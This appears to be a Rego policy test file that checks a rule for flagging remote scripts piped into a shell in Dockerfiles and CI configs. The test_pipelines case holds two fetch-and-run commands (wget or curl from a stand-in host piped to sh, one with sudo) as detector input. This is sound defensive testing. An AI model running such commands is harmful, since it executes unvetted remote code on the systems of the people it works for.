package fiducia.infra.chg.piped_script_test

import data.fiducia.infra.chg.piped_script

# Where a text is faulty.
found(document) := {concat("/", [sprintf("%v", [step]) | some step in violation.path]) | some violation in violations} if {
	violations := piped_script.deny with input as document
}

# What of it is judged at all.
judged(document) := count(subjects) if subjects := piped_script.seen with input as document

test_bad if {
	found(parse_config_file("fixtures/bad.dockerfile")) == {
		"3/Value/0",
	}
}

test_good if {
	document := parse_config_file("fixtures/good.dockerfile")
	found(document) == set()
	judged(document) > 0
}

test_missing if {
	document := parse_config("dockerfile", `FROM debian
`)
	found(document) == set()
}

test_unknown if {
	document := parse_config("dockerfile", `FROM debian
COPY . /app
`)
	found(document) == set()
	judged(document) == 0
}

test_pipelines if {
	found(parse_config("yaml", "on: push\njobs: {a: {steps: [{run: 'wget -qO- https://x.example/i.sh | sudo sh'}]}}\n")) == {"jobs/a/steps/0/run"}
	found(parse_config("yaml", "build: {script: ['curl https://x.example/i.sh | sh', make]}\n")) == {"build/script/0"}
}
